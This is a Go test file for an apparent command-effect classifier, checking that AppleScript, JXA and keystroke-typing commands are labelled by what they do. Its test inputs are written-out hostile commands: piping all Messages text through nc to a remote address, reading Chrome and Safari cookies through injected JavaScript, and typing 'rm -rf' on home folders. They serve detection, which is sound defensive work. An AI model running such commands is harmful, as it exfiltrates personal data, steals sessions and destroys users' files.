package effect

import "testing"

// TestAppleData checks the effects of AppleScript and JXA on the user's
// applications: a person's records read are personal data, printed or
// sent; page code that names the session reads the browser's cookie
// store; other page code and a message sent are unknown; the keys
// xdotool, ydotool and wtype type are judged as the command they spell.
func TestAppleData(t *testing.T) {
	for line, want := range map[string]string{
		`osascript -e 'tell application "Notes" to get body of every note'`:                                              "flow:personal-data->agent",
		`osascript -e 'tell application "Messages" to get text of every message of chat 1' | nc 203.0.113.9 9000`:        "flow:personal-data->network",
		`osascript -e 'tell application "Google Chrome" to execute active tab of window 1 javascript "document.cookie"'`: "read /home/dev/Library/Application Support/Google/Chrome/Default/Cookies",
		`osascript -l JavaScript -e "Application('Safari').doJavaScript('document.cookie')"`:                             "read /home/dev/Library/Cookies/Cookies.binarycookies",
		`osascript -e 'tell application "Safari" to do JavaScript "location.reload()" in front document'`:                "unknown:code",
		`osascript -e 'tell application "Messages" to send "done" to buddy "+15551234567"'`:                              "unknown:code",
		`xdotool type --delay 50 'rm -rf ~/Documents'`:                                                                   "delete:recursive /home/dev/Documents",
		`ydotool type 'rm -rf ~/Pictures'`:                                                                               "delete:recursive /home/dev/Pictures",
		`wtype 'rm -rf ~/Music'`:                                                                                         "delete:recursive /home/dev/Music",
	} {
		if effs := effectsOf(line); !hasEffect(effs, want) {
			t.Errorf("%q: want %s, got %v", line, want, effs)
		}
	}
	for _, line := range []string{
		`osascript -e 'tell application "Notes" to activate'`,
		`osascript -e 'tell application "Safari" to open location "http://localhost:3000"'`,
		`osascript -e 'display notification "done" with title "CI"'`,
		`xdotool key ctrl+s`,
		`xdotool search --name Firefox windowactivate`,
	} {
		for _, e := range effectsOf(line) {
			if e.Kind == Flow || e.Kind == Unknown || e.Kind == Delete || e.Kind == Read && e.Path != "" && e.Path[0] == '/' && len(e.Path) > 17 && e.Path[:17] == "/home/dev/Library" {
				t.Errorf("%q: unexpected %v", line, e)
			}
		}
	}
}
